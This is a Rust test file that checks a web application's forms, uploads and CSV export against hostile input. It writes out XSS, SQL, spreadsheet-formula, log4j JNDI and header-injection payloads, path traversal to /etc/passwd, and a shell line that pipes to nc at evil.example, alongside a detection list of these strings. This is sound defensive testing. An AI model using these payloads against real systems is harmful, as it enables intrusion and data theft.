//! Texts in every field that people fill in.

use super::Target;
use crate::world::{REQUEST, invite, organisation_fields, request, set_password};

/// What is typed: refused, or shown as what it is.
const TEXTS: [(&str, &str); 26] = [
    ("a script", "<script>alert(1)</script>"),
    ("a picture that runs", "<img src=x onerror=alert(1)>"),
    ("SVG that runs", "\"><svg/onload=alert(1)>"),
    ("an attribute that runs", "' onfocus='alert(1)' autofocus='"),
    ("the end of a text box", "</textarea><script>alert(1)</script>"),
    ("a link that runs", "<a href=\"javascript:alert(1)\">x</a>"),
    ("a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("MathML that runs", "<math><mtext><style><img src=x onerror=alert(1)>"),
    ("a comment", "<!--<script>--><!]]>"),
    ("entities", "&lt;script&gt;&#x3c;script&#62;"),
    ("a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}"),
    ("a formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("a formula with a plus", "+cmd|' /C calc'!A0"),
    ("a formula with a minus", "-2+3+cmd|' /C calc'!A0"),
    ("a formula with an at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("SQL", "'; DROP TABLE cases; --"),
    ("SQL that is true", "' OR '1'='1"),
    ("a shell", "$(reboot) `id` | nc evil.example 1 && x"),
    ("a path", "../../../../etc/passwd%00"),
    ("a lookup of log4j", "${jndi:ldap://evil.example/a}"),
    ("a line of a log", "x\nlevel=ERROR who=root"),
    ("a header", "x\r\nSet-Cookie: a=b\r\nBcc: x@evil.example"),
    ("turned letters", "\u{202e}evil\u{2066}"),
    ("letters that are not seen", "a\u{200b}b\u{feff}c\u{ad}d"),
    ("a terminal's commands", "\u{1b}[2J\u{9b}31m"),
    ("a zero", "a\u{0}b"),
];
/// What would act in a page, or hide something.
const ACTING: [&str; 13] = [
    "<script>alert",
    "<img src=x",
    "<svg/",
    "<iframe",
    "<math",
    "href=\"javascript:",
    "' onfocus='",
    "\u{202e}",
    "\u{2066}",
    "\u{feff}",
    "\u{1b}",
    "\u{9b}",
    "\u{0}",
];

pub fn try_all(target: &mut Target) {
    let mut kept = 0;
    for (name, text) in TEXTS {
        let fields = [("scope", "everyone"), ("text", text)];
        let note = act(target, "add-note", &fields);
        let fields = [("kind", "other"), ("name", text), ("source", text)];
        let path = format!("{}/do/post-file", target.case);
        let file = target.ada.upload(&path, &fields, &[("digest", "a.txt", text.as_bytes())]);
        for status in [note, file.status] {
            target.holds([303, 415, 422].contains(&status), format!("{name}: {status}"));
        }
        kept += usize::from(note == 303);
        nothing_acts(target, name);
        target.tried.push(format!("{name} as a text"));
    }
    assert!(kept > 15, "most texts are shown: {kept}");
    large_ones(target);
    in_a_request(target);
    in_names(target);
}

fn act(target: &mut Target, kind: &str, fields: &[(&str, &str)]) -> u16 {
    target.known = None;
    let path = format!("{}/do/{kind}", target.case);
    target.ada.post_once(&path, fields).status
}

/// Wherever the case is shown.
fn nothing_acts(target: &mut Target, name: &str) {
    let parts = ["", "/history", "/documents", "/activities", "/questionnaire"];
    for part in parts {
        let path = format!("{}{part}", target.case);
        let page = target.ada.get(&path).expect(200);
        for acting in ACTING {
            target.holds(!page.body.contains(acting), format!("{name}: {acting:?} on {path}"));
        }
    }
}

fn large_ones(target: &mut Target) {
    let huge = "x".repeat(900_000);
    let fields = [("scope", "everyone"), ("text", huge.as_str())];
    target.refused("a text of 900,000 letters", &[422], |target| act(target, "add-note", &fields));
    let too_large = "x".repeat(2 << 20);
    let fields = [("scope", "everyone"), ("text", too_large.as_str())];
    target.refused("a text of two million letters", &[413], |target| {
        act(target, "add-note", &fields)
    });
    let name = "n".repeat(500_000);
    let fields = [("scope", "everyone"), ("text", "x"), (name.as_str(), "x")];
    // A field that nobody asks for is passed over.
    let status = act(target, "add-note", &fields);
    target.holds(status == 303, format!("a long name: {status}"));
    target.tried.push("a name of 500,000 letters".to_owned());
    let many: Vec<_> = (0..6_000).map(|number| (format!("f{number}"), "x")).collect();
    let mut fields = vec![("scope", "everyone"), ("text", "x")];
    fields.extend(many.iter().map(|(name, value)| (name.as_str(), *value)));
    target.refused("6,000 fields", &[413], |target| act(target, "add-note", &fields));
    let path = format!("{}/do/add-note", target.case);
    target.refused("6,000 parts of a form", &[413], |target| {
        target.ada.upload(&path, &fields, &[]).status
    });
}

/// Numbers, dates and words that are none, in a new request.
fn in_a_request(target: &mut Target) {
    let wrong = [
        ("fields.environments", "-1"),
        ("fields.environments", "0"),
        ("fields.environments", "99999999999999999999"),
        ("fields.environments", "1e9"),
        ("fields.environments", "1.5"),
        ("fields.environments", "\u{0661}"),
        ("fields.environments", "NaN"),
        ("fields.deadline", "2027-02-30"),
        ("fields.deadline", "99999-01-01"),
        ("fields.deadline", "-0001-01-01"),
        ("fields.deadline", "tomorrow"),
        ("fields.platform", "../activemq-classic"),
        ("fields.platform", "activemq-classic\u{0}"),
        ("fields.deployment", "in my cellar"),
        ("fields.access", "root"),
        ("fields.current_version", "5.18\r\nX: y"),
    ];
    for (field, value) in wrong {
        let fields = REQUEST.map(|one| if one.0 == field { (field, value) } else { one });
        target.refused(&format!("{value:?} as {field}"), &[422], |target| {
            target.ada.post_once("/requests/new", &fields).status
        });
    }
    let list = target.ada.get("/requests").expect(200);
    let rows = list.body.matches("<tr>").count();
    target.holds(rows == 2, format!("{rows} rows: something came of them"));
}

/// Names of organisations and people, which are on every page, in the CSV file, and in letters.
fn in_names(target: &mut Target) {
    let mut admin = target.world.log_in("administrator");
    for (number, name) in
        ["=HYPERLINK(\"x\")", "<script>alert(1)</script>", "@SUM(1)"].into_iter().enumerate()
    {
        let id = format!("odd-{number}");
        admin.get("/administration/organisations").expect(200);
        let fields = organisation_fields(&id, name);
        admin.post("/administration/organisations", &fields).expect(200).has("It is saved.");
        let link = invite(&mut admin, &format!("max-{number}"), &id, "customer");
        set_password(&mut target.world.browser(), &link);
        let mut max = target.world.log_in(&format!("max-{number}"));
        let case = request(&mut max);
        let page = max.get(&case).expect(200);
        assert!(!page.body.contains("<script>alert"));
        let file = max.get("/requests.csv").expect(200);
        assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8"));
        for cell in cells(&file.body) {
            let acts = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            target.holds(!acts, format!("a spreadsheet would run {cell}"));
        }
        target.tried.push(format!("an organisation called {name}"));
    }
    for email in ["x@y\r\nBcc: z@evil.example", "not an address", "<script>@x.example", ""] {
        let fields = [
            ("id", "odd"),
            ("name", "Odd"),
            ("email", email),
            ("organisation", "acme"),
            ("role", "customer"),
        ];
        let status = admin.post_once("/administration/users", &fields).status;
        target.holds([400, 422].contains(&status), format!("the address {email:?}: {status}"));
        target.tried.push(format!("the address {email:?}"));
    }
}

/// The cells of a table, as a spreadsheet reads them.
fn cells(csv: &str) -> Vec<String> {
    let cells = csv.split("\r\n").filter(|line| !line.is_empty());
    let inner = cells.flat_map(|line| line.trim_matches('"').split("\",\"").map(str::to_owned));
    inner.collect()
}
